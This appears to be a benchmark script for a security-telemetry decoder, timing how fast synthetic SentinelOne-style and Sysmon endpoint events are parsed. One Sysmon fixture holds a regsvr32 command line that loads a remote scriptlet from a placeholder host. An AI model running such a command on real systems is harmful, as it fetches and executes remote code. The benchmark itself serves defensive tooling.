// Decode + normalize throughput (events/s) per format, next to a JSON.parse-only pass over the same
// bytes (and, for s1-dv, inflate-only and inflate + protobuf decode). Prints figures; never fails.
// Build first: npx tsc -p tsconfig.json && node bench/decode.js
import {inflateSync} from 'node:zlib';
import {decodeRecord, encodeDvPacket, registryDataHex} from '../dist/source/core/formats/index.js';
import {PacketType} from '../dist/source/core/formats/s1-dv/schema.js';

const SECONDS = Number(process.env.BENCH_SECONDS ?? 1.5);
const T0 = Date.UTC(2024, 4, 1, 10);
const HOSTS = ['WS01', 'WS02', 'WS03', 'SRV-DB1', 'mac-07', 'web-1'];

function proc(i, name, dir = 'C:\\Windows\\System32') {
	return {
		name,
		executable: {path: `${dir}\\${name}`, hashes: {sha256: 'ab'.repeat(32)}},
		commandLine: `${name} --arg ${i} /flag`,
		fullPid: {pid: 1000 + (i % 5000), startTime: {millisecondsSinceEpoch: T0 - 60_000}},
		user: {name: 'CORP\\alice'},
		integrityLevel: 'MEDIUM',
		trueContext: {key: {value: `STORY${i % 97}`}},
	};
}

// A realistic mix: mostly process, file, network and registry events.
function dvEvent(i) {
	const timestamp = {millisecondsSinceEpoch: T0 + i};
	const src = proc(i, 'powershell.exe');
	src.parent = proc(i + 1, 'explorer.exe', 'C:\\Windows');
	switch (i % 8) {
		case 0:
			return {timestamp, processCreation: {parent: src, process: proc(i + 2, 'cmd.exe')}};
		case 1:
			return {
				timestamp,
				fileCreation: {
					source: src,
					targetFile: {path: `C:\\Users\\alice\\AppData\\Local\\Temp\\f${i}.tmp`, sizeBytes: 1000 + i},
				},
			};
		case 2:
			return {
				timestamp,
				dns: {
					source: src,
					query: `host${i % 300}.example.com`,
					results: 'type:  5 cdn.example.net;93.184.216.34;',
					status: 'SUCCESS',
				},
			};
		case 3:
			return {
				timestamp,
				tcpv4: {
					source: src,
					sourceAddress: {address: '10.0.0.5', port: 50000 + (i % 10000)},
					destinationAddress: {address: '93.184.216.34', port: 443},
					direction: 'OUTGOING',
					status: 'SUCCESS',
				},
			};
		case 4:
			return {
				timestamp,
				regValueModified: {
					source: src,
					regValue: {path: `MACHINE\\SOFTWARE\\Vendor\\App\\v${i % 50}`},
					newValueType: 1,
					newValueData: registryDataHex(`C:\\Program Files\\App\\${i}.exe`),
				},
			};
		case 5:
			return {timestamp, moduleLoad: {source: src, path: 'C:\\Windows\\System32\\amsi.dll'}};
		case 6:
			return {timestamp, fileModification: {source: src, file: {path: `C:\\Users\\alice\\Documents\\doc${i}.docx`}}};
		default:
			return {timestamp, http: {source: src, url: `https://example.com/api/${i}`, method: 'GET'}};
	}
}

function cf2Event(i) {
	const common = {
		'event.time': T0 + i,
		'sca:atlantisIngestTime': T0 + i + 2000,
		'endpoint.name': HOSTS[i % HOSTS.length],
		'endpoint.os': 'windows',
		'agent.uuid': 'agent-' + (i % HOSTS.length),
		'src.process.name': 'powershell.exe',
		'src.process.image.path': 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
		'src.process.cmdline': `powershell.exe -nop -c step ${i}`,
		'src.process.pid': 5100,
		'src.process.user': 'CORP\\alice',
		'src.process.storyline.id': `STORY${i % 97}`,
		'src.process.parent.name': 'explorer.exe',
		'src.process.parent.image.path': 'C:\\Windows\\explorer.exe',
		'site.name': 'Lab',
		'account.name': 'Example',
	};
	switch (i % 4) {
		case 0:
			return {
				...common,
				'event.type': 'Process Creation',
				'event.category': 'process',
				'tgt.process.name': 'cmd.exe',
				'tgt.process.image.path': 'C:\\Windows\\System32\\cmd.exe',
				'tgt.process.cmdline': `cmd.exe /c job ${i}`,
				'tgt.process.pid': 6000 + i,
			};
		case 1:
			return {
				...common,
				'event.type': 'File Creation',
				'event.category': 'file',
				'tgt.file.path': `C:\\Temp\\f${i}.tmp`,
				'tgt.file.size': i,
			};
		case 2:
			return {
				...common,
				'event.type': 'DNS Resolved',
				'event.category': 'dns',
				'event.dns.request': `host${i % 300}.example.com`,
				'event.dns.response': 'type:  5 cdn.example.net;93.184.216.34;',
			};
		default:
			return {
				...common,
				'event.type': 'IP Connect',
				'event.category': 'ip',
				'src.ip.address': '10.0.0.5',
				'src.port.number': 50000,
				'dst.ip.address': '93.184.216.34',
				'dst.port.number': 443,
				'event.network.direction': 'OUTGOING',
			};
	}
}

function sysmonEvent(i) {
	return {
		Event: {
			System: {
				Provider: {'#attributes': {Name: 'Microsoft-Windows-Sysmon'}},
				EventID: 1,
				TimeCreated: {'#attributes': {SystemTime: new Date(T0 + i).toISOString()}},
				EventRecordID: i,
				Channel: 'Microsoft-Windows-Sysmon/Operational',
				Computer: HOSTS[i % HOSTS.length],
				Security: {'#attributes': {UserID: 'S-1-5-18'}},
			},
			EventData: {
				UtcTime: '2024-05-01 10:00:00.123',
				ProcessGuid: '{11111111-2222-3333-4444-555555555555}',
				ProcessId: 4200 + (i % 1000),
				Image: 'C:\\Windows\\System32\\regsvr32.exe',
				CommandLine: `regsvr32.exe /s /u /i:https://example.test/${i}.sct scrobj.dll`,
				CurrentDirectory: 'C:\\Users\\alice\\',
				User: 'CORP\\alice',
				IntegrityLevel: 'Medium',
				Hashes: 'SHA256=ABCDEF0123,MD5=0123ABCD',
				ParentProcessId: 4100,
				ParentImage: 'C:\\Windows\\System32\\cmd.exe',
				ParentCommandLine: 'cmd.exe /c run.bat',
			},
		},
	};
}

const EVENTS_PER_PACKET = 50;
const dvPackets = [];
const dvJsonRenderings = [];
for (let p = 0; p < 200; p++) {
	const events = [];
	for (let e = 0; e < EVENTS_PER_PACKET; e++) events.push(dvEvent(p * EVENTS_PER_PACKET + e));
	const meta = {
		computerName: HOSTS[p % HOSTS.length],
		osFamily: 'windows',
		uuid: `agent-${p % HOSTS.length}`,
		agentVersion: 'S1-WIN/21.5.7.370',
	};
	dvPackets.push(Buffer.from(encodeDvPacket({meta, events, version: 'EXPORT_20'})));
	for (const ev of events) dvJsonRenderings.push(Buffer.from(JSON.stringify({meta, ...ev})));
}
const cf2 = Array.from({length: 10_000}, (_, i) => Buffer.from(JSON.stringify(cf2Event(i))));
const sysmon = Array.from({length: 10_000}, (_, i) => Buffer.from(JSON.stringify(sysmonEvent(i))));

/** Runs fn over the messages repeatedly for SECONDS; returns events/s and MB/s. */
function measure(messages, eventsPerMessage, fn) {
	let bytes = 0;
	for (const m of messages) bytes += m.length;
	for (let w = 0; w < 2; w++) for (const m of messages) fn(m); // warm up
	let rounds = 0;
	const start = process.hrtime.bigint();
	let elapsed = 0;
	do {
		for (const m of messages) fn(m);
		rounds++;
		elapsed = Number(process.hrtime.bigint() - start) / 1e9;
	} while (elapsed < SECONDS);
	return {
		eventsPerSec: (rounds * messages.length * eventsPerMessage) / elapsed,
		mbPerSec: (rounds * bytes) / elapsed / 1e6,
		avgBytes: bytes / messages.length,
	};
}

const now = Date.now();
const decode = m => decodeRecord({value: m, receivedAt: now});
const rows = [
	['s1-dv decodeRecord (zlib packets of 50)', dvPackets, EVENTS_PER_PACKET, decode],
	['s1-dv inflate only', dvPackets, EVENTS_PER_PACKET, m => inflateSync(m)],
	['s1-dv inflate + protobuf decode', dvPackets, EVENTS_PER_PACKET, m => PacketType.decode(inflateSync(m))],
	['s1-dv events as JSON: JSON.parse only', dvJsonRenderings, 1, m => JSON.parse(m.toString())],
	['s1-cf2 decodeRecord', cf2, 1, decode],
	['s1-cf2 JSON.parse only', cf2, 1, m => JSON.parse(m.toString())],
	['sysmon decodeRecord (evtx_dump)', sysmon, 1, decode],
	['sysmon JSON.parse only', sysmon, 1, m => JSON.parse(m.toString())],
];

// Sanity: the inputs decode to what they claim.
const check = [decode(dvPackets[0]), decode(cf2[0]), decode(sysmon[0])];
if (
	check[0].length !== EVENTS_PER_PACKET ||
	check[0][0].format !== 's1-dv' ||
	check[1][0].format !== 's1-cf2' ||
	check[2][0].format !== 'sysmon'
) {
	console.error('bench input does not decode as expected');
	process.exitCode = 1;
}

console.log(`node ${process.version}, ${SECONDS}s per row`);
console.log('what'.padEnd(44), 'events/s'.padStart(12), 'MB/s'.padStart(8), 'bytes/msg'.padStart(10));
for (const [name, messages, per, fn] of rows) {
	const r = measure(messages, per, fn);
	console.log(
		name.padEnd(44),
		Math.round(r.eventsPerSec).toLocaleString('en-US').padStart(12),
		r.mbPerSec.toFixed(1).padStart(8),
		Math.round(r.avgBytes).toString().padStart(10),
	);
}
